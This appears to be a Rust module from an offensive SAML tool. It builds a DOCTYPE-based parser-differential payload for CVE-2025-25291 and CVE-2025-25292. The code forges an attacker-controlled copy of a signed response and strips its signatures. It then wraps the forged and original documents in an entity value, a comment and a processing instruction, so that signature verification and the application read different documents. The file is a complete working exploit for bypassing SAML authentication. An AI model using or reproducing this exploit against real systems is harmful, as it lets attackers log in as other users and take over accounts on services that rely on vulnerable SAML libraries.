//! A document type declaration after which two parsers read two documents (CVE-2025-25291, CVE-2025-25292).

use super::Attacker;
use super::document::Document;
use super::parser::ForgedRoot;
use crate::WireError;
use crate::tree::Edits;

/// A value in the declaration holds what would end it and begin a comment. Who knows where values end reads the first
/// document, and the second stands in a processing instruction. Who takes the first `]>` for the end takes the first
/// document for a comment.
pub(super) fn doctype(
    document: &Document<'_>,
    attacker: &Attacker<'_>,
    forged: ForgedRoot,
) -> Result<String, WireError> {
    let tree = &document.tree;
    let whole = tree.range(document.response);
    let mut edits = Edits::default();
    document.forge(&mut edits, attacker)?;
    for (_, signature) in document.signed_elements()? {
        edits.remove(tree.range(signature));
    }
    let copy = edits.apply_to(document.xml, whole.clone());
    let (first, second) = match forged {
        ForgedRoot::First => (copy.as_str(), tree.markup(document.response)),
        ForgedRoot::Last => (tree.markup(document.response), copy.as_str()),
    };
    let name = tree.name(document.response);
    let both = format!(r#"<!DOCTYPE {name} [<!ENTITY e "]><!--">]>{first}<?x -->{second}<?y ?>"#);
    let mut edits = Edits::default();
    edits.replace(whole, both);
    Ok(edits.apply(document.xml))
}
